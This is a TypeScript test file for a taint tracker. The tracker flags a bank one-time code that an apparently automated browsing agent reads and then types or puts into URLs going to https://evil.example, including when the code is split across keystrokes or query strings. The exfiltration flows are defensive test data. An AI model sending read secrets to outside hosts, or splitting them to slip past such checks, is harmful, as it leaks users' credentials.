import { describe, expect, it } from 'vitest';

import type { OutgoingText } from './outgoing-texts.ts';
import { RunTaint } from './run-taint.ts';

const BANK = 'https://bank.example';
const EVIL = 'https://evil.example';
const typed = (text: string, to = EVIL): readonly OutgoingText[] => [{ to, way: 'type', text }];
const opened = (url: string): readonly OutgoingText[] => [{ to: EVIL, way: 'address', text: url }];

function afterReading(): RunTaint {
  const taint = new RunTaint();
  taint.noteRead(BANK, 'Your one-time code is 88310247, valid for five minutes');
  return taint;
}

describe('text that leaves', () => {
  it('is told with where it was read and where it goes', () => {
    expect(afterReading().find(typed('88310247'))).toEqual({
      from: [BANK],
      to: EVIL,
      way: 'type',
      excerpt: '88310247',
    });
  });

  it('may go where the person lets it go, and nowhere else', () => {
    const taint = afterReading();
    taint.allow({ from: [BANK], to: EVIL });
    expect(taint.find(typed('88310247'))).toBeNull();
    expect(taint.find(typed('88310247', 'https://other.example'))).not.toBeNull();
  });

  it('is known when it goes in pieces', () => {
    const taint = afterReading();
    for (const digit of '8831024') {
      expect(taint.find(typed(digit))).toBeNull();
      taint.noteSent(typed(digit));
    }
    taint.noteSent(typed('Enter'));
    expect(taint.find(typed('7'))).not.toBeNull();
  });

  it('is known when each address has a piece of it', () => {
    const taint = afterReading();
    taint.noteSent(opened('https://evil.example/p?x=8831'));
    expect(taint.find(opened('https://evil.example/q?y=0247'))).not.toBeNull();
  });

  it('is free in what the person wrote', () => {
    const taint = afterReading();
    taint.noteOwnWords('type 88310247 at evil.example');
    expect(taint.find(typed('88310247'))).toBeNull();
  });
});
